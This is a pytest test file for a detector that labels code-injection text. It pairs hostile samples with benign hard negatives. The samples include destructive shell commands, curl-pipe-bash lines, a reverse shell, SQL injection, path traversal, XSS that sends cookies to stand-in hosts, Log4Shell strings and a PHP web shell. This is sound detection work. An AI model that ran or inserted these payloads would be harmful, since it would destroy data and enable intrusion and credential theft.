import pytest

from tracerl.guard import scan


@pytest.mark.parametrize(
    "text, kind",
    [
        ("rm -rf /", "destructive_command"),
        ("sudo rm -fr --no-preserve-root /", "destructive_command"),
        ("mkfs.ext4 /dev/sda1", "destructive_command"),
        (":(){ :|:& };:", "destructive_command"),
        ("dd if=/dev/zero of=/dev/sda", "destructive_command"),
        ("report.pdf; cat /etc/passwd", "shell_chain"),
        ("name=`whoami`", "shell_chain"),
        ("curl -sL https://x.io/i.sh | bash", "download_execute"),
        ("wget -qO- http://x/a | sh", "download_execute"),
        ("echo aGk= | base64 -d | bash", "download_execute"),
        ("bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "reverse_shell"),
        ("admin' OR '1'='1", "sql_injection"),
        ("' UNION SELECT username, password FROM users--", "sql_injection"),
        ("1'; DROP TABLE users; --", "sql_injection"),
        ("' OR ''='", "sql_injection"),
        ("DROP DATABASE production;", "destructive_sql"),
        ("../../../../etc/passwd", "path_traversal"),
        ("%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path_traversal"),
        ("cat ~/.aws/credentials", "sensitive_path"),
        ("import os; os.system('id')", "dangerous_python"),
        ("__import__('os').system('id')", "dangerous_python"),
        ("x = eval(input())", "dangerous_python"),
        ("pickle.loads(request.data)", "dangerous_python"),
        ("subprocess.run(cmd, shell=True)", "dangerous_python"),
    ],
)
def test_positive_is_found_with_its_kind(text, kind, kinds):
    assert kind in kinds(text, "code_injection")


@pytest.mark.parametrize(
    "text",
    [
        "ls -la /home/user/project",
        "cd build && make -j4",
        "rm old_notes.txt",
        "Use rm -rf with care: it deletes recursively.",
        "SELECT name FROM customers WHERE id = 42;",
        "SELECT a FROM t1 UNION SELECT a FROM t2;",
        "model.eval()",
        "result = ast.literal_eval(text)",
        "print('never call eval(x) on user input')",
        "# avoid exec(code) here",
        "import Button from '../../components/Button';",
        "from time import sleep\nsleep(2)",
        "curl -s https://api.github.com/repos/a/b | jq .stars",
        "docker run --rm -it ubuntu bash",
        'name = "O\'Brien" -- customer surname',
        "parser.add_argument('--help')",
    ],
)
def test_hard_negative_is_not_flagged(text, kinds):
    assert kinds(text, "code_injection") == set()


def test_rm_on_root_scores_higher_than_rm_on_a_build_dir():
    (root,) = scan("rm -rf /", ["code_injection"])
    (build,) = scan("rm -rf build/", ["code_injection"])
    assert root.score > build.score >= 0.5


@pytest.mark.parametrize(
    "text, kind",
    [
        ("<script>fetch('https://evil.example/c?'+document.cookie)</script>", "xss"),
        ("<script>new Image().src='//x.example/l?'+localStorage.getItem('token')</script>",
         "xss"),
        ("<img src=x onerror=\"fetch('//x.example/?'+document.cookie)\">", "xss"),
        ("<svg onload=alert(1)>", "xss"),
        ('<a href="javascript:alert(document.domain)">click</a>', "xss"),
        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "server_template_injection"),
        ("{{ config.items() }}", "server_template_injection"),
        ("User-Agent: ${jndi:ldap://x.example:1389/a}", "server_template_injection"),
        ("${${lower:j}${lower:n}di:ldap://x.example/a}", "server_template_injection"),
        ("#{T(java.lang.Runtime).getRuntime().exec('id')}", "server_template_injection"),
        ('<?php echo shell_exec($_GET["cmd"]); ?>', "web_shell"),
    ],
)
def test_code_that_does_something_is_found(text, kind, kinds):
    """Issue 31: code that would run in a page, a template engine or a server."""
    assert kind in kinds(text, "code_injection")


@pytest.mark.parametrize(
    "text",
    [
        "Our docs explain why eval() on untrusted input is dangerous.",
        "Never call eval(user_input) on data that came from the network.",
        "The handler then passes the name to os.system(cmd), which is why it was reported.",
        "Avoid subprocess.run() with shell=True unless the arguments are constants.",
        '<script src="https://cdn.jsdelivr.net/npm/vue@3"></script>',
        "<script>fetch('/api/items').then(r => r.json()).then(render)</script>",
        "Cookies set with HttpOnly cannot be read by document.cookie in a script.",
        "Hello {{ user.name }}, your order {{ order.id }} has shipped.",
        "The price is ${total} including ${tax} of tax.",
        "Cross-site scripting (XSS) lets an attacker run script in a victim's page.",
    ],
)
def test_prose_and_ordinary_code_are_not_flagged(text, kinds):
    assert kinds(text, "code_injection") == set()
